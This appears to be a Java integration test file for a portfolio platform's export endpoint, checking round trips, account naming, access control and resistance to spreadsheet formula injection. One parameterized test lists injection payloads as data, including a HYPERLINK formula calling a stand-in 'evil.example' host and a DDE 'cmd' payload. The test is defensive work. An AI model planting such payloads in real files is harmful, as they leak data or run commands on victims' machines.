package io.portfolioplatform.app.export;

import java.nio.charset.StandardCharsets;
import java.util.UUID;

import io.portfolioplatform.app.IntegrationTest;
import io.portfolioplatform.app.Users;
import io.portfolioplatform.app.database.OwnerJdbc;
import io.portfolioplatform.app.imports.ImportFile;
import io.portfolioplatform.app.imports.ImportProblem;
import io.portfolioplatform.app.imports.ImportRefusedException;
import io.portfolioplatform.app.imports.ImportReport;
import io.portfolioplatform.app.imports.ImportService;
import io.portfolioplatform.app.overview.OverviewService;
import io.portfolioplatform.app.user.UserId;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.core.io.ClassPathResource;
import org.springframework.http.HttpStatus;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * Tests for {@link ExportController}.
 */
@IntegrationTest
class ExportControllerTests {

	@Autowired
	private MockMvcTester mvc;

	@Autowired
	private ImportService imports;

	@Autowired
	private OverviewService overviews;

	private final UserId user = Users.fresh();

	@ParameterizedTest
	@ValueSource(strings = { "accounts-and-balances.json", "without-accounts.json", "cash.csv", "broker-headers.csv",
			"date-notations.csv", "splits-and-transfers.csv", "flex-trades.csv", "tabs-and-byte-order-mark.csv" })
	void comesBackFromARoundTrip(String file) throws Exception {
		UserId other = Users.fresh();
		byte[] original = new ClassPathResource("imports/good/" + file).getContentAsByteArray();
		String first = export(this.user, importFile(this.user, file, original));
		String second = export(other, importFile(other, "export.json", first.getBytes(StandardCharsets.UTF_8)));
		assertThat(second).isEqualTo(first).contains("\"activities\":[{");
		assertThat(this.overviews.overview(other.value())).usingRecursiveComparison()
			.isEqualTo(this.overviews.overview(this.user.value()));
	}

	/**
	 * By the days, the transfer comes before the first activity that names no account.
	 */
	@ParameterizedTest
	@ValueSource(strings = { "Unassigned", "Depot" })
	void keepsTheAccountOfActivitiesThatNameNoneInOnePiece(String name, @Autowired OwnerJdbc owner) {
		UUID portfolio = importFile(this.user, "a.csv", """
				date,type,symbol,quantity,unitPrice,currency,account,toAccount
				2006-01-05,buy,MSFT,10,100,EUR,,
				2006-01-03,deposit,,1,1000,EUR,Bank,
				2006-01-04,transfer,,1,1000,EUR,Bank,Unassigned
				""".getBytes(StandardCharsets.UTF_8));
		owner.sql("update account set name = ? where portfolio_id = ? and external_id is null")
			.params(name, portfolio)
			.update();
		UserId other = Users.fresh();
		String first = export(this.user, portfolio);
		byte[] content = first.getBytes(StandardCharsets.UTF_8);
		assertThat(export(other, importFile(other, "export.json", content))).isEqualTo(first);
		assertThat(this.overviews.overview(other.value())).usingRecursiveComparison()
			.isEqualTo(this.overviews.overview(this.user.value()));
		assertThat(this.imports.importFile(this.user, new ImportFile("export.json", content), portfolio))
			.returns(0, ImportReport::activities)
			.returns(3, ImportReport::duplicates);
	}

	/**
	 * Names were as long as any text once; what a file calls an account stays with it.
	 */
	@ParameterizedTest
	@ValueSource(strings = { "Renamed", "" })
	void bringsAccountsBackWhoseNamesAreLongerThanNewOnesMayBe(String renamed, @Autowired OwnerJdbc owner) {
		String name = "\u682a".repeat(800);
		UUID portfolio = importFile(this.user, "a.csv", """
				date,type,symbol,quantity,unitPrice,currency,account,toAccount
				2006-01-03,deposit,,1,1000,EUR,A,
				2006-01-04,transfer,,1,1000,EUR,B,A
				""".getBytes(StandardCharsets.UTF_8));
		owner.sql("update account set external_id = :id, name = :name where portfolio_id = :portfolio and name = 'A'")
			.param("id", name)
			.param("name", renamed.isEmpty() ? name : renamed)
			.param("portfolio", portfolio)
			.update();
		UserId other = Users.fresh();
		String first = export(this.user, portfolio);
		byte[] content = first.getBytes(StandardCharsets.UTF_8);
		assertThat(export(other, importFile(other, "export.json", content))).isEqualTo(first).contains(name);
		assertThat(this.imports.importFile(this.user, new ImportFile("export.json", content), portfolio)).returns(2,
				ImportReport::duplicates);
		ImportFile undescribed = new ImportFile("a.json",
				first.replaceFirst("\"accounts\"", "\"places\"").getBytes(StandardCharsets.UTF_8));
		assertThatExceptionOfType(ImportRefusedException.class)
			.isThrownBy(() -> this.imports.importFile(other, undescribed, null))
			.satisfies((refused) -> assertThat(refused.problems()).extracting(ImportProblem::column)
				.containsExactly("activities[0].accountId", "activities[1].targetAccountId"));
	}

	@Test
	void writesWhatGhostfolioReads() {
		UUID portfolio = importFile(this.user, "a.csv", """
				date,type,symbol,quantity,unitPrice,currency,fee,account,comment
				2006-01-03,buy,MSFT,0.00000001,26.84,USD,1,A,"Said ""hello"", twice"
				2006-01-03,item,Cabin,1,30000,CHF,0,A,
				""".getBytes(StandardCharsets.UTF_8));
		MvcTestResult result = get(this.user, portfolio);
		assertThat(result).hasStatusOk()
			.hasHeader("Content-Disposition", "attachment; filename=\"portfolio-2007-12-31.json\"")
			.bodyJson()
			.isLenientlyEqualTo("""
					{
					  "user": { "settings": { "currency": "EUR" } },
					  "accounts": [ { "id": "A", "name": "A", "currency": "USD", "balances": [] } ],
					  "assetProfiles": [ { "symbol": "Cabin", "dataSource": "MANUAL" },
					    { "symbol": "MSFT", "name": "Microsoft", "dataSource": "YAHOO" } ],
					  "activities": [
					    { "accountId": "A", "type": "BUY", "date": "2006-01-03T00:00:00.000Z", "symbol": "MSFT",
					      "dataSource": "YAHOO", "quantity": 0.00000001, "unitPrice": 26.84, "fee": 1,
					      "currency": "USD", "comment": "Said \\"hello\\", twice" },
					    { "type": "ITEM", "symbol": "Cabin", "dataSource": "MANUAL" } ]
					}
					""");
	}

	/**
	 * A spreadsheet computes what begins with one of these characters, if it opens a CSV
	 * file. There is none: the export is JSON, whatever is asked for, and its name holds
	 * nothing that somebody wrote.
	 */
	@ParameterizedTest
	@ValueSource(strings = { "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
			"\tfoo", "|calc" })
	void handsOutNothingThatASpreadsheetComputes(String formula) throws Exception {
		UUID portfolio = importFile(this.user, "a.csv",
				("date,type,symbol,quantity,unitPrice,currency,account,comment\n2006-01-03,buy,MSFT,1,26.84,USD,"
						+ quoted(formula) + "," + quoted(formula) + "\n")
					.getBytes(StandardCharsets.UTF_8));
		for (String type : new String[] { "*/*", "application/json" }) {
			MvcTestResult result = export(portfolio, type);
			assertThat(result).hasStatusOk()
				.hasContentType("application/json")
				.hasHeader("Content-Disposition", "attachment; filename=\"portfolio-2007-12-31.json\"")
				.hasHeader("X-Content-Type-Options", "nosniff")
				.bodyJson()
				.extractingPath("$.activities[0].comment")
				.isEqualTo(formula.strip());
		}
		for (String type : new String[] { "text/csv", "application/vnd.ms-excel", "text/html" }) {
			assertThat(export(portfolio, type)).hasStatus(HttpStatus.NOT_ACCEPTABLE);
		}
	}

	private static String quoted(String text) {
		return '"' + text.replace("\"", "\"\"") + '"';
	}

	private MvcTestResult export(UUID portfolio, String type) {
		return this.mvc.get()
			.uri("/api/portfolios/" + portfolio + "/export")
			.header("Accept", type)
			.with(Users.signedIn(this.user))
			.exchange();
	}

	@Test
	void doesNotHandOutThePortfolioOfAnother() {
		UUID portfolio = importFile(this.user, "a.csv",
				"date,type,symbol,quantity,unitPrice,currency\n2006-01-03,buy,MSFT,1,26.84,USD\n"
					.getBytes(StandardCharsets.UTF_8));
		assertThat(get(Users.fresh(), portfolio)).hasStatus(HttpStatus.NOT_FOUND);
	}

	private UUID importFile(UserId owner, String name, byte[] content) {
		return this.imports.importFile(owner, new ImportFile(name, content), null).portfolioId();
	}

	private String export(UserId owner, UUID portfolio) {
		return new String(get(owner, portfolio).getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
	}

	private MvcTestResult get(UserId owner, UUID portfolio) {
		return this.mvc.get().uri("/api/portfolios/" + portfolio + "/export").with(Users.signedIn(owner)).exchange();
	}

}
